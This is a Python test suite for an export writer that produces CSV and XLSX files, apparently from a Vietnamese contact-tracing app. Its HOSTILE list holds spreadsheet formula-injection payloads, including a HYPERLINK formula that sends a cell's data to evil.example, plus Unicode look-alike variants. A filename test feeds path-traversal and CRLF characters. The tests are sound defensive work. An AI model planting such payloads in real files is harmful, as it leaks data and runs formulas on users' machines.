"""The shared export writer: hostile cells come out inert in CSV and XLSX, nothing makes it fail, big
lists stream."""

import csv
import io
import re

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from epiqr.core import export
from epiqr.core.export import Sheet

# Names a visitor could type at a venue poster; each is a formula in some spreadsheet program.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&B2,"Gọi lại")',
    "+84912345678",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",  # small form variant
    "  =1+1",
    "\u200b=1+1",  # zero-width space first
    "\ufeff@x",
    "−1",  # minus sign
]
HARMLESS = ["Nguyễn Văn An", "0912345678", "a=b", "Số 1 Phố Hàng Bạc", "", "e-mail", "Ngõ 12/3"]


def test_formula_like_flags_every_hostile_start_and_nothing_else():
    assert [t for t in HOSTILE if not export.formula_like(t)] == []
    assert [t for t in HARMLESS if export.formula_like(t)] == []


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM so that Excel reads Vietnamese"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_writes_hostile_text_with_an_apostrophe_and_keeps_numbers():
    sheet = Sheet(title="t", header=["=Tên", "Số"], rows=[[name, -5] for name in HOSTILE + HARMLESS])
    rows = _csv_rows(export.csv_bytes(sheet))
    assert rows[0] == ["'=Tên", "Số"]
    for (name, number), original in zip(rows[1:], HOSTILE + HARMLESS, strict=True):
        if original in HOSTILE:
            assert name == "'" + original.replace("\r", "\n") or name == "'" + original
        else:
            assert name == original
        assert number == "-5"  # a number is a number, not text to neutralise
    assert sheet.rows_written == len(HOSTILE + HARMLESS)


def test_xlsx_stores_every_text_as_text_and_marks_hostile_cells():
    sheet = Sheet(title="=Danh sách", header=["Tên", "Số"], rows=[[name, -5] for name in HOSTILE + HARMLESS])
    book = load_workbook(io.BytesIO(export.xlsx_bytes([sheet])))
    ws = book.active
    cells = [c for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    names = [row[0] for row in ws.iter_rows(min_row=2)]
    for cell, original in zip(names, HOSTILE + HARMLESS, strict=True):
        assert cell.value == (original.replace("\r", "\n") or None)
        assert cell.quotePrefix == (original in HOSTILE)
    assert [row[1].value for row in ws.iter_rows(min_row=2)] == [-5] * len(names)


def test_a_sheet_longer_than_a_worksheet_goes_on_in_further_worksheets_losing_nothing(monkeypatch):
    """Excel holds 1,048,576 rows a worksheet and drops the rest of a longer one (a national export of
    check-ins or an F2 run's exposures can be longer): the rows go on in "<title> (2)", "(3)"..., each
    headed again, every row once and in order; the summary above the header stays on the first."""
    assert export.XLSX_MAX_ROWS == 1_048_576
    monkeypatch.setattr(export, "XLSX_MAX_ROWS", 5)  # a preamble row and the header leave 3, then 4 a sheet
    long_title = "Truy vết F0-123456789 toàn thành phố"
    rows = [[f"=Người {n}", n] for n in range(10)]
    sheet = Sheet(title=long_title, header=["Tên", "Số"], rows=rows, preamble=[["Tổng", 10]])
    book = load_workbook(
        io.BytesIO(export.xlsx_bytes([sheet, Sheet(title="Khác", header=["h"], rows=[[1]])]))
    )
    assert book.sheetnames == [long_title[:31], long_title[:27] + " (2)", long_title[:27] + " (3)", "Khác"]
    first, second, third = (list(book[name].iter_rows(values_only=True)) for name in book.sheetnames[:3])
    assert first[:2] == [("Tổng", 10), ("Tên", "Số")] and second[0] == third[0] == ("Tên", "Số")
    assert [len(first), len(second), len(third)] == [5, 5, 4]
    assert first[2:] + second[1:] + third[1:] == [tuple(r) for r in rows]
    assert book[book.sheetnames[1]]["A2"].quotePrefix  # neutralised on every worksheet
    assert sheet.rows_written == 10


def test_unwritable_characters_are_dropped_not_fatal():
    rows = [["a\x00b\x01c", "\ud800lone surrogate", "x" * 40_000]]
    book = load_workbook(io.BytesIO(export.xlsx_bytes([Sheet(title="t", header=["h"] * 3, rows=rows)])))
    a, b, c = next(book.active.iter_rows(min_row=2, values_only=True))
    assert (a, b, len(c)) == ("abc", "lone surrogate", export.XLSX_CELL_MAX)
    assert _csv_rows(export.csv_bytes(Sheet(title="t", header=["h"] * 3, rows=rows)))[1][:2] == [
        "abc",
        "lone surrogate",
    ]


NUMBER = re.compile(r"-?\d+")
texts = st.text(alphabet=st.characters(codec=None, categories=None), max_size=30)
cells = st.one_of(texts, st.integers(min_value=-(10**12), max_value=10**12), st.none())


@settings(max_examples=150, deadline=None)
@given(st.lists(st.lists(cells, min_size=1, max_size=4), min_size=1, max_size=5))
def test_any_cells_give_inert_files(rows):
    """Whatever people typed, both files are written, and no cell can run as a formula."""
    header = ["h1", "h2", "h3", "h4"]
    for row in _csv_rows(export.csv_bytes(Sheet(title="t", header=header, rows=rows)))[1:]:
        for cell in row:
            assert not export.formula_like(cell) or cell.startswith("'") or NUMBER.fullmatch(cell)
    ws = load_workbook(io.BytesIO(export.xlsx_bytes([Sheet(title="t", header=header, rows=rows)]))).active
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str) and export.formula_like(cell.value):
                assert cell.quotePrefix


def test_csv_download_streams_rows_as_they_are_produced():
    produced = []

    def rows():
        for n in range(3 * export.CSV_CHUNK_ROWS):
            produced.append(n)
            yield [f"Người {n}", n]

    response = export.response(
        Sheet(title="t", header=["Tên", "Số"], rows=rows()), fmt="csv", filename="x.csv"
    )
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    chunks = iter(response.streaming_content)
    next(chunks)
    assert len(produced) <= export.CSV_CHUNK_ROWS + 1  # nothing beyond the first chunk was built yet
    body = b"".join([b"", *chunks])
    assert len(produced) == 3 * export.CSV_CHUNK_ROWS and body.endswith(b"1499\r\n")


def test_download_names_are_plain_ascii():
    response = export.response(
        Sheet(title="t", header=["a"], rows=[]), fmt="xlsx", filename='truy vết "F0"/..\r\n.xlsx'
    )
    name = response["Content-Disposition"].removeprefix('attachment; filename="').removesuffix('"')
    assert re.fullmatch(r"[A-Za-z0-9._-]+", name) and name.startswith("truy-vet-F0")
    assert response.getvalue()[:2] == b"PK"
